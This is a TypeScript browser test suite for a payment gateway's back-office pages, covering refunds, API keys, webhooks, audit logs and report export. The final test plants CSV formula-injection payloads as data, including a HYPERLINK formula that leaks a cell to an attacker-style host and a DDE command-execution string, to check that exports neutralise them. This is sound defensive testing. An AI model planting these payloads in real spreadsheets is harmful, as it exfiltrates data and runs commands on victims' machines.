import { readFileSync } from 'node:fs'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test, vi } from 'vitest'
import { sealAudit } from '../../apps/gateway/src/domain/audit-log/seal-audit.ts'
import { addMember } from '../../apps/gateway/test/support/member.ts'
import { DESKTOP, expectAccessible, PHONE, type View } from '../support/browser.ts'
import { deskOf, openOffice, settled, showWhoOneIs, storeSecret, visit, type Office } from '../support/office.ts'

vi.setConfig({ testTimeout: 240_000 })

const MINUTE = 60_000
const VIEWS: readonly (readonly [string, View])[] = [
  ['on a wide screen', { viewport: DESKTOP }],
  ['on a phone', { viewport: PHONE, colorScheme: 'dark' }],
]

let office: Office
beforeAll(async () => {
  office = await openOffice()
})
afterAll(() => office.close())

const dialogOf = (page: Page) => page.getByRole('dialog')

test.each(VIEWS)('%s money is given back, taken, let go: and a large refund asks who one is', async (_where, view) => {
  const { gateway } = office
  const paid = await gateway.paidOrder({ totalAmt: 50_000, subject: 'Espresso machine' })
  const { page } = await deskOf(office, (await addMember(gateway, 'finance')).email, {
    ...view,
    path: `/payments/${paid.ucpOrderNo}`,
  })
  const refund = async (amount: string): Promise<void> => {
    await page.getByRole('main').getByRole('button', { name: 'Refund', exact: true }).click()
    await dialogOf(page).getByLabel('Amount in CAD').fill(amount)
    await dialogOf(page).getByLabel('Reason').fill('Arrived broken')
    await dialogOf(page).getByRole('button', { name: 'Refund' }).click()
  }
  await refund('500.01')
  await dialogOf(page).getByText('Enter an amount of at most').waitFor()
  await expectAccessible(page)
  await dialogOf(page).getByRole('button', { name: 'Cancel' }).click()
  gateway.moveClock(6 * MINUTE)
  await refund('20.00')
  await page.getByText('The refund is on its way.').waitFor() // Below the limit nothing more is asked.
  await dialogOf(page).waitFor({ state: 'detached' })
  await refund('150.00')
  await showWhoOneIs(page)
  await dialogOf(page).waitFor({ state: 'detached' })
  await page.getByText('Refunded', { exact: false }).first().waitFor()
  const refunds = await gateway.rows<{ refund_amt: number }>(
    `refunds where ucp_order_no = '${paid.ucpOrderNo}' order by 1`,
  )
  expect(refunds.map(({ refund_amt: amount }) => amount).sort()).toEqual([15_000, 2_000])

  const held = await gateway.paidOrder({ captureMode: 'manual', totalAmt: 900 })
  await visit(office, page, `/payments/${held.ucpOrderNo}`)
  await page.getByRole('main').getByRole('button', { name: 'Capture' }).click()
  await expectAccessible(page)
  await dialogOf(page).getByLabel('Amount in CAD').fill('8.00')
  await dialogOf(page).getByRole('button', { name: 'Capture' }).click()
  await page.getByText('The money is taken.').waitFor()

  const letGo = await gateway.paidOrder({ captureMode: 'manual', totalAmt: 900 })
  await visit(office, page, `/payments/${letGo.ucpOrderNo}`)
  gateway.moveClock(6 * MINUTE)
  await page.getByRole('main').getByRole('button', { name: 'Reverse' }).click()
  await expectAccessible(page)
  await dialogOf(page).getByRole('button', { name: 'Reverse' }).click()
  await showWhoOneIs(page)
  await page.getByText('The payment is reversed.').waitFor()

  const unpaid = await gateway.place()
  await visit(office, page, `/payments/${String(unpaid.data['ucpOrderNo'])}`)
  await page.getByRole('main').getByRole('button', { name: 'Close' }).click()
  await dialogOf(page).getByRole('button', { name: 'Close', exact: true }).first().click()
  await page.getByText('The order is closed.').waitFor()
  const states = await gateway.sql<{ trade_status: string }>(
    `select trade_status from orders where ucp_order_no = any($1) order by ucp_order_no`,
    [[held.ucpOrderNo, letGo.ucpOrderNo, String(unpaid.data['ucpOrderNo'])]],
  )
  expect(states.map(({ trade_status: status }) => status)).toEqual(['SUCCESS', 'REVOKED', 'CLOSED'])
})

test.each(VIEWS)(
  '%s a key is made, shown once, rolled and revoked, and does what the page says',
  async (_where, view) => {
    const { gateway } = office
    const { page } = await deskOf(office, (await addMember(gateway, 'developer')).email, { ...view, path: '/api-keys' })
    const name = `Till ${view.viewport?.width}`
    await page.getByRole('button', { name: 'Make a key' }).click()
    await dialogOf(page).getByLabel('Kind').selectOption('rk')
    await dialogOf(page).getByRole('button', { name: 'Make a key' }).click()
    await dialogOf(page).getByText('Choose at least one scope.').waitFor()
    await expectAccessible(page)
    await dialogOf(page).getByLabel('Name').fill(name)
    await dialogOf(page).getByLabel('payments:read').check()
    await dialogOf(page).getByRole('button', { name: 'Make a key' }).click()
    await page.locator('pre.secret').waitFor()
    await expectAccessible(page)
    const first = await storeSecret(page)
    expect(first).toMatch(/^ucp_rk_test_/)
    expect(await page.content()).not.toContain(first)
    const works = async (key: string): Promise<number> =>
      (await gateway.get('/payment/status?outTradeNo=None', { key })).status
    expect(await works(first)).toBe(404)

    gateway.moveClock(6 * MINUTE)
    await page.getByRole('button', { name: `Roll ${name}` }).click()
    await dialogOf(page).getByLabel('The old key still works for').selectOption({ label: 'Not at all: it was leaked' })
    await dialogOf(page).getByRole('button', { name: 'Roll' }).click()
    await showWhoOneIs(page)
    await page.locator('pre.secret').waitFor()
    const second = await storeSecret(page)
    expect([first === second, await works(second)]).toEqual([false, 404])
    await expect.poll(() => works(first)).toBe(401)

    await page.reload()
    await settled(page)
    for (const key of [first, second]) expect(await page.content()).not.toContain(key)
    await page
      .getByRole('button', { name: `Revoke ${name}` })
      .first()
      .click()
    await expectAccessible(page)
    await dialogOf(page).getByRole('button', { name: 'Revoke' }).click()
    await page.getByText('The key is revoked.').waitFor()
    await expect.poll(() => works(second)).toBe(401)
  },
)

test.each(VIEWS)('%s a notification is sent again, a range too, and the secret is rotated', async (_where, view) => {
  const { gateway } = office
  const before = gateway.receiver.received.length
  await gateway.paidOrder({ subject: 'Told' })
  await gateway.receiver.waitFor(before + 1)
  const { page } = await deskOf(office, (await addMember(gateway)).email, { ...view, path: '/notifications' })
  await page.locator('tbody tr a').first().click()
  await page.getByRole('heading', { level: 1, name: 'Notification' }).waitFor()
  await settled(page)
  await expectAccessible(page)
  await page.getByRole('button', { name: 'Send again' }).click()
  await page.getByText('It is on its way again.').waitFor()
  await gateway.receiver.waitFor(before + 2)
  const ids = gateway.receiver.received.slice(before).map(({ headers }) => headers['webhook-id'])
  expect(new Set(ids).size).toBe(1)

  await visit(office, page, '/notifications/endpoints')
  await page.getByRole('button', { name: 'Send a range again' }).click()
  await dialogOf(page)
    .getByText(/notifications? fits?\.$/)
    .waitFor()
  await expectAccessible(page)
  await dialogOf(page).getByLabel('Which').selectOption({ label: 'Those that were delivered' })
  await dialogOf(page)
    .getByText(/[1-9]\d* notifications? fits?\.$/)
    .waitFor()
  await dialogOf(page).getByRole('button', { name: 'Send again' }).click()
  await page.getByText(/on the way again/).waitFor()
  await gateway.receiver.waitFor(before + 3)

  await page.getByRole('button', { name: 'Rotate the secret' }).click()
  await expectAccessible(page)
  await dialogOf(page).getByRole('button', { name: 'Rotate the secret' }).click()
  await page.locator('pre.secret').waitFor()
  const secret = await storeSecret(page)
  expect(secret).toMatch(/^whsec_/)
  expect(secret).not.toBe(gateway.merchant.webhookSecret)
  await page.reload()
  await settled(page)
  expect(await page.content()).not.toContain(secret)
})

test.each(VIEWS)(
  '%s a customer is shown for a while, which the audit log tells, and the log is verified',
  async (_where, view) => {
    const { gateway } = office
    const email = `ada.${view.viewport?.width}@example.org`
    const made = await gateway.post('/users', { name: 'Ada Lovelace', email })
    const userId = String(made.data['userId'])
    const owner = await addMember(gateway)
    const { page } = await deskOf(office, owner.email, { ...view, path: '/customers' })
    expect(await page.content()).not.toContain(email)
    await page.getByLabel('Find by e-mail address').fill('nobody@example.org')
    await page.getByRole('button', { name: 'Find' }).click()
    await page.getByText('Nobody has this address').waitFor()
    await expectAccessible(page)
    await page.getByLabel('Find by e-mail address').fill(email)
    await page.getByRole('button', { name: 'Find' }).click()
    await page.locator('tbody tr a').first().click()
    await page.getByRole('button', { name: 'Show in full' }).click()
    await page.getByText(email).waitFor()
    await expectAccessible(page)
    await page.getByRole('button', { name: 'Hide now' }).click()
    await page.getByText(email).waitFor({ state: 'detached' })
    await sealAudit({ ...gateway.gateway.deps, keys: gateway.keys }, gateway.clock.now())
    await visit(office, page, `/audit-log?action=customer.revealed&target=${userId}`)
    expect(await page.locator('tbody tr').count()).toBe(1)
    expect(await page.locator('tbody').innerText()).toMatch(/Ada\s+127\.0\.0\.1/) // Who looked, and from where.
    const [entry] = await gateway.sql<{ actor: string }>(
      `select actor from audit_log where action = 'customer.revealed' and target = $1`,
      [userId],
    )
    expect(entry?.actor).toBe(owner.memberId)
    await page.getByRole('button', { name: 'Verify' }).click()
    await dialogOf(page).getByText('Yes: nothing was changed, removed or added.').waitFor()
    await expectAccessible(page)
  },
)

test('a spreadsheet gets what was paid, and no formula of a buyer’s or a shop’s; the printed report has no buttons', async () => {
  const { gateway } = office
  // The contract lets no `=` into a subject; a reason may hold anything.
  const formulas = ['+1+1', '-2+3', '@SUM(A1:A9)']
  const reasons = ['=HYPERLINK("https://evil.example/?"&A1,"Look")', '@SUM(A1)', "=cmd|' /C calc'!A0"]
  for (const [at, subject] of formulas.entries())
    await gateway.refund(await gateway.paidOrder({ subject }), { outRefundNo: `Csv${at}`, refundDesc: reasons[at] })
  const { page } = await deskOf(office, (await addMember(gateway, 'finance')).email, { path: '/reports' })
  const sheet = async (kind: 'Payments' | 'Refunds'): Promise<string[][]> => {
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.locator('.report-downloads').getByRole('link', { name: kind, exact: true }).click(),
    ])
    expect(download.suggestedFilename()).toMatch(new RegExp(`^${kind.toLowerCase()}-\\d{4}-\\d\\d-\\d\\d\\.csv$`))
    return parseCsv(readFileSync(await download.path(), 'utf8'))
  }
  const [payments, refunds] = [await sheet('Payments'), await sheet('Refunds')]
  const column = ([head = [], ...rows]: string[][], name: string): (string | undefined)[] =>
    rows.map((row) => row[head.indexOf(name)])
  for (const subject of formulas) expect(column(payments, 'subject')).toContain(`'${subject}`)
  for (const reason of reasons) expect(column(refunds, 'refundDesc')).toContain(`'${reason}`)
  for (const cell of [...payments, ...refunds].flat()) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/)

  await page.emulateMedia({ media: 'print' })
  await page.locator('.report-merchant').getByText('Corner Coffee').waitFor()
  for (const gone of ['nav', '.top-bar', '.filters', '.report-downloads'])
    for (const each of await page.locator(gone).all()) expect([gone, await each.isVisible()]).toEqual([gone, false])
  await page.getByText('Test mode: no money moved.').waitFor()
  expect((await page.pdf()).length).toBeGreaterThan(5_000)
})

/** Reads CSV as RFC 4180 has it, with a byte order mark. */
function parseCsv(text: string): string[][] {
  expect(text.startsWith('\uFEFF')).toBe(true)
  const cells = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/gy
  const rows: string[][] = [[]]
  for (const [, cell = '', end] of text.slice(1).matchAll(cells)) {
    rows.at(-1)?.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell)
    if (end === '\r\n') rows.push([])
  }
  return rows.slice(0, -1)
}
